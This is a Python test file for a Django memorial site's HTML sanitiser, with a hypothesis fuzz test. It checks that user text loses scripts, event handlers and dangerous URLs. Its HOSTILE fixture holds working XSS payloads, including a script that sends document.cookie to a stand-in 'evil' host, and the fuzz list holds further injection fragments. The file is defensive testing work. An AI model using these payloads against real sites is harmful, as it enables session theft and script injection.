"""User text is reduced to a small allow-list of markup."""

import re
from html.parser import HTMLParser

from django.template import engines
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from memorial.sanitize import ALLOWED_TAGS, plain_text, render_user_text, sanitize_html, sanitize_language_map

HOSTILE = (
    '<p onclick="steal()">My <strong>brother</strong> <script>fetch("//evil/"+document.cookie)</script>'
    '<img src=x onerror=alert(1)><a href="javascript:alert(1)">link</a>'
    '<a href="https://example.org/memorial">ok</a><iframe src="//evil"></iframe>'
    '<style>body{display:none}</style><svg><script>alert(2)</script></svg>'
    '<span style="position:fixed">x</span><!-- comment --></p>'
)


def test_sanitiser_strips_script_handlers_and_dangerous_urls():
    out = sanitize_html(HOSTILE)
    assert "<script" not in out and "fetch(" not in out and "alert" not in out
    assert "onclick" not in out and "onerror" not in out
    assert "javascript:" not in out
    assert "<iframe" not in out and "<style" not in out and "<img" not in out and "<svg" not in out
    assert "style=" not in out and "comment" not in out
    assert "<strong>brother</strong>" in out
    assert '<a href="https://example.org/memorial" rel="nofollow noopener noreferrer ugc">ok</a>' in out


def test_plain_text_keeps_paragraphs_and_is_escaped():
    html = render_user_text("First line\nsecond line\n\nA < B & C")
    assert html == "<p>First line<br>second line</p>\n\n<p>A &lt; B &amp; C</p>"


def test_template_filter_is_builtin_and_safe():
    template = engines["django"].from_string("<div>{{ story|sanitize }}</div><h1>{{ title|plain_text }}</h1>")
    out = template.render({"story": HOSTILE, "title": "<b>Title</b><script>x()</script>"})
    assert "<script" not in out and "<strong>brother</strong>" in out
    assert "<h1>Title</h1>" in out


def test_language_maps_and_plain_text():
    assert sanitize_language_map({"en": "<b>hi</b><script>x</script>", "ar": "<em dir=\"rtl\">مرحبا</em>",
                                  "bad": 3}) == {"en": "<b>hi</b>", "ar": '<em dir="rtl">مرحبا</em>'}
    assert plain_text("<p>a &amp; <i>b</i></p>") == "a & b"


@hsettings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([
    "<script>", "</script>", "<img src=x onerror=", "javascript:", "<a href=\"", "\">", "<svg/onload=",
    "<p>", "</p>", "text", "\"", "'", "<", ">", "=", " ", "on", "click", "<iframe", "&#106;avascript:",
    "<math><mi xlink:href=", "<style>", "data:text/html,", "<object data=", "<base href=",
]), max_size=30).map("".join))
def test_no_executable_markup_survives(text):
    # Parse the output as a browser would and look at the real tags and attributes.
    found = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect(convert_charrefs=True).feed(sanitize_html(text))
    for tag, attrs in found:
        assert tag in ALLOWED_TAGS
        for name, value in attrs:
            assert not name.startswith("on")
            if name in ("href", "src", "cite"):
                assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.I)
